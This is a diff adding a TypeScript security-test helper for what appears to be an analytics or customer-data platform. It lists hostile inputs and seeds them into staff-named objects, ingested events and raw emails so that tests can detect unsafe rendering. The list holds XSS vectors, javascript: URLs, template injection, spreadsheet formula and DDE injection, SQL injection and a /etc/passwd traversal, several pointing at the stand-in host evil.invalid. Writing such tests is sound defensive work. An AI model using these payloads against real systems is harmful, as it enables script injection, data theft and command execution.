@@ -1,0 +1,286 @@
+import assert from 'node:assert/strict';
+import { setTimeout as sleep } from 'node:timers/promises';
+import type { RunningServer } from './server.ts';
+
+/** Sets a mark that no page of ours sets, and is seen by a test whatever else it does. */
+const RUN = 'window.hacked=1';
+
+/**
+ * What attackers write where a name is asked for. Whatever is taken for HTML by a screen leaves an element with
+ * `data-hostile`, whatever runs leaves `window.hacked`, and whatever loads asks for a host of the domain `.invalid`.
+ */
+export const PAYLOADS: readonly string[] = [
+  // HTML and scripts
+  `<script data-hostile>${RUN}</script>`,
+  `"><script data-hostile src=https://evil.invalid/x.js></script>`,
+  `<img data-hostile src=https://evil.invalid/x onerror="${RUN}">`,
+  `'"><img data-hostile src=x onerror=${RUN}>`,
+  `<svg data-hostile/onload=${RUN}>`,
+  `<svg data-hostile><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<math data-hostile><mi xlink:href="javascript:${RUN}">x`,
+  `<iframe data-hostile srcdoc="<script>parent.hacked=1</script>"></iframe>`,
+  `<iframe data-hostile src="https://evil.invalid/"></iframe>`,
+  `<object data-hostile data="https://evil.invalid/x.swf"></object>`,
+  `<link data-hostile rel=stylesheet href=https://evil.invalid/x.css>`,
+  `<style data-hostile>@import "https://evil.invalid/x.css";*{background:url(https://evil.invalid/x)}</style>`,
+  `<base data-hostile href="https://evil.invalid/">`,
+  `<meta data-hostile http-equiv=refresh content="0;url=https://evil.invalid/">`,
+  `<form data-hostile action=https://evil.invalid/><button formaction=javascript:${RUN}>x`,
+  `</title></textarea></style></script><img data-hostile src=x onerror=${RUN}>`,
+  `<details data-hostile open ontoggle=${RUN}>`,
+  `<a data-hostile href="java\tscript:${RUN}">x</a>`,
+  `<!--><img data-hostile src=x onerror=${RUN}>-->`,
+  `<scr<script>ipt data-hostile>${RUN}</scr</script>ipt>`,
+  `&lt;img data-hostile src=x onerror=${RUN}&gt;`,
+  `\\u003cimg data-hostile src=x onerror=${RUN}\\u003e`,
+  `%3Cimg%20data-hostile%20src=x%20onerror=${RUN}%3E`,
+  // Addresses
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}//https://shop.example/`,
+  `\u0001javascript:${RUN}`,
+  `data:text/html,<script data-hostile>${RUN}</script>`,
+  `vbscript:msgbox(1)`,
+  `https://shop.example/"onmouseover="${RUN}`,
+  `https://shop.example/<script data-hostile>${RUN}</script>`,
+  `//evil.invalid/x`,
+  `\\\\evil.invalid\\x`,
+  `![x](https://evil.invalid/x.png) [y](javascript:${RUN})`,
+  // Templates and catalogues of messages
+  '{{constructor.constructor("window.hacked=1")()}}',
+  '{{count}} {{name}} $t(nav.people) <b data-hostile>{{x}}</b> <0>x</0>',
+  '\u0024{window.hacked=1} #{7*7} <%= 7*7 %> {%raw%} %s %d',
+  // Names of the language
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  'null',
+  'undefined',
+  'NaN',
+  // Writings
+  '\u202Egnp.exe\u202C \u2066\u2067x',
+  '\u200B\u200E\uFEFF',
+  'a\u0000b',
+  'broken \ud800 surrogate',
+  `z${'\u0301'.repeat(400)}`,
+  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(20),
+  'שלום عالم',
+  'x\r\ny\u2028z\u0085',
+  // Spreadsheets
+  '=HYPERLINK("https://evil.invalid/","x")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  // Other languages of ours
+  `'; DROP TABLE persons; --`,
+  `' OR '1'='1`,
+  '{sql:String}',
+  '%_\\',
+  '../../../../etc/passwd',
+  // Endless
+  'W'.repeat(500),
+  'ﷺ'.repeat(300),
+  `<img data-hostile src=x onerror=${RUN}>`.repeat(10),
+];
+
+/** Each as text that staff may type: PostgreSQL can hold it, and it is short enough for a name. */
+const typed = (limit: number): string[] => [
+  ...new Set(
+    PAYLOADS.filter((text) => !text.includes('\0') && text.isWellFormed())
+      .map((text) => text.trim().slice(0, limit).trim())
+      .filter((text) => text !== '' && text.isWellFormed()),
+  ),
+];
+
+/** Every payload as a name of everything that staff name; `receiver` is where webhooks go. */
+export async function typeHostileNames(server: RunningServer, receiver: string): Promise<void> {
+  const post = (path: string, body: object) => server.api<{ id: string }>('POST', path, body);
+  const destination = { url: receiver, concurrency: 1 };
+  const names = typed(90);
+  await post('/api/privacy/purposes', {
+    key: 'hostile',
+    name: names[0]!,
+    description: PAYLOADS[2]!,
+    legalBasis: 'consent',
+  });
+  for (const [i, name] of names.entries()) {
+    const { id } = await post('/api/sources', { name, kind: i % 2 ? 'server' : 'browser' });
+    await post(`/api/sources/${id}/transformations`, {
+      name,
+      content: { kind: 'javascript', code: `function transform(event) { throw new Error(${JSON.stringify(name)}) }` },
+    });
+    await post('/api/keys', { name, role: 'viewer' });
+    await post('/api/views', { list: 'people', name, query: `q=${encodeURIComponent(name)}`, shared: true });
+    await post('/api/catalogue/events', { type: 'track', name, description: name });
+    if (i < 10) await post('/api/scim/tokens', { name });
+    if (i < 90) await post('/api/roles', { name, description: name, permissions: ['people.read'] });
+    if (i < 8 || /^[=+@-]/.test(name)) {
+      await post('/api/sso', {
+        kind: 'oidc',
+        name,
+        domains: ['example.org'],
+        issuer: 'https://login.example.org',
+        clientId: name,
+        clientSecret: 'secret',
+      }).catch((error: Error) => assert.match(error.message, /limit|more than/));
+      const made = await post('/api/destinations', {
+        name,
+        webhook: destination,
+        condition: null,
+        filter: { names: [name] },
+      });
+      await post(`/api/destinations/${made.id}/test-messages`, {});
+    }
+    await post('/api/privacy/texts', {
+      purpose: 'hostile',
+      version: `${i} ${name}`.slice(0, 50),
+      language: 'en',
+      body: name,
+    });
+    await server.api('PUT', '/api/privacy/retention', { eventName: name, sourceId: null, days: 36_000 });
+    await post('/api/requests', { kind: 'access', email: `r${i}@example.com`, name, message: name });
+  }
+}
+
+/** Sends every payload in every field of an event, on one person and on one person each. Resolves when all is stored. */
+export async function sendHostileEvents(server: RunningServer, key: string): Promise<void> {
+  const batch = PAYLOADS.flatMap((text, i) => eventsWith(text, i));
+  for (let from = 0; from < batch.length; from += 50) {
+    const answer = await fetch(`${server.url}/v1/batch`, {
+      method: 'POST',
+      headers: {
+        authorization: `Basic ${btoa(`${key}:`)}`,
+        'content-type': 'application/json',
+        'user-agent': '<img data-hostile src=x onerror=window.hacked=1>',
+      },
+      body: JSON.stringify({ batch: batch.slice(from, from + 50) }),
+    });
+    if (!answer.ok) throw new Error(`${answer.status} ${await answer.text()}`);
+  }
+  for (;;) {
+    const stream = await server.api<{ partitions: { lagEvents: number }[] }>('GET', '/api/stream');
+    if (stream.partitions.every((one) => one.lagEvents === 0)) return;
+    await sleep(100);
+  }
+}
+
+function eventsWith(text: string, i: number): object[] {
+  const pairs = { [text]: text, list: [text, { [text]: text }], deep: { [text]: { [text]: [text] } } };
+  const traits = { name: text, firstName: text, phone: text, avatar: text, company: { name: text }, ...pairs };
+  const context = {
+    page: { title: text, url: text, path: text, referrer: text, search: text },
+    campaign: { source: text, medium: text, name: text, term: text, content: text },
+    userAgent: text,
+    locale: text,
+    timezone: text,
+    app: { name: text, version: text },
+    device: { type: text, model: text },
+    os: { name: text, version: text },
+    network: { carrier: text },
+    location: { city: text, country: text, latitude: text, longitude: text },
+    consent: { categoryPreferences: { [text]: true, analytics: i % 2 === 0 } },
+    [text]: text,
+  };
+  const product = {
+    product_id: text,
+    sku: text,
+    name: text,
+    brand: text,
+    price: 1,
+    quantity: 1,
+    url: text,
+    image_url: text,
+  };
+  return [
+    { type: 'identify', userId: 'victim', traits: { [text]: text, [`t${i}`]: text }, context },
+    { type: 'identify', userId: `of ${i}`, traits, context },
+    { type: 'identify', userId: text.slice(0, 200), anonymousId: text.slice(0, 200), traits: { name: text } },
+    { type: 'track', userId: 'victim', event: text, properties: { ...pairs, url: text, href: text, text }, context },
+    {
+      type: 'track',
+      userId: 'victim',
+      event: 'Order Completed',
+      properties: { order_id: text, currency: text, coupon: text, products: [product] },
+    },
+    {
+      type: 'track',
+      userId: 'victim',
+      event: 'Element Clicked',
+      properties: { selector: text, text, href: text, tag: text },
+    },
+    { type: 'track', userId: 'victim', event: 'Error Shown', properties: { message: text, stack: text, source: text } },
+    {
+      type: 'track',
+      userId: 'victim',
+      event: 'Email Received',
+      channel: 'email',
+      properties: { subject: text, text, from: text },
+    },
+    {
+      type: 'track',
+      userId: 'victim',
+      event: 'Consent Updated',
+      properties: { purposes: { [text]: true }, textVersion: text, language: text, place: text },
+    },
+    {
+      type: 'page',
+      userId: 'victim',
+      name: text,
+      category: text,
+      properties: { title: text, url: text, referrer: text },
+      context,
+    },
+    { type: 'screen', userId: 'victim', name: text, channel: 'app', context },
+    { type: 'group', userId: 'victim', groupId: text.slice(0, 200), traits: { name: text, industry: text, ...pairs } },
+    { type: 'track', userId: 'victim', event: 'Tagged', externalIds: [{ kind: 'card', value: text.slice(0, 200) }] },
+    // Into quarantine, each for a reason that names what was sent.
+    { type: 'track', userId: `of ${i}`, event: text, properties: text, messageId: `broken ${i} ${text}`.slice(0, 100) },
+    { type: text, userId: 'victim' },
+    { type: 'track', event: text, properties: { nobody: text } },
+    {
+      type: 'track',
+      userId: 'victim',
+      event: text,
+      timestamp: text,
+      channel: text,
+      externalIds: [{ kind: text, value: text }],
+    },
+  ];
+}
+
+/** Mails with hostile subjects, names and texts, to a source of their own; as a provider hands them over. */
+export async function sendHostileMails(server: RunningServer): Promise<void> {
+  const connection = { kind: 'mail', settings: { aliases: [] } };
+  const { sourceId } = await server.api<{ sourceId: string }>('POST', '/api/connections', { name: 'mail', connection });
+  const { writeKey } = await server.api<{ writeKey: string }>('GET', `/api/sources/${sourceId}`);
+  const word = (text: string) => `=?utf-8?B?${Buffer.from(text.toWellFormed().slice(0, 100)).toString('base64')}?=`;
+  await Promise.all(
+    [PAYLOADS[0]!, PAYLOADS[2]!, PAYLOADS[5]!, PAYLOADS[23]!, 'W'.repeat(400)].map(async (text, i) => {
+      const mail = [
+        `From: ${word(text)} <m${i}@example.com>`,
+        'To: support@shop.example',
+        `Subject: ${word(text)}`,
+        `Message-ID: <${i}.hostile@example.com>`,
+        'MIME-Version: 1.0',
+        'Content-Type: multipart/mixed; boundary=b',
+        '',
+        '--b',
+        'Content-Type: text/html; charset=utf-8',
+        '',
+        `<p>${text}</p>`,
+        '--b',
+        `Content-Type: image/svg+xml; name="${word(text)}"`,
+        `Content-Disposition: attachment; filename="${word(text)}"`,
+        '',
+        text,
+        '--b--',
+        '',
+      ].join('\r\n');
+      const headers = { 'content-type': 'message/rfc822' };
+      const answer = await fetch(`${server.url}/hooks/mail/${writeKey}`, { method: 'POST', headers, body: mail });
+      assert.ok(answer.ok, `${answer.status} ${await answer.text()}`);
+    }),
+  );
+}
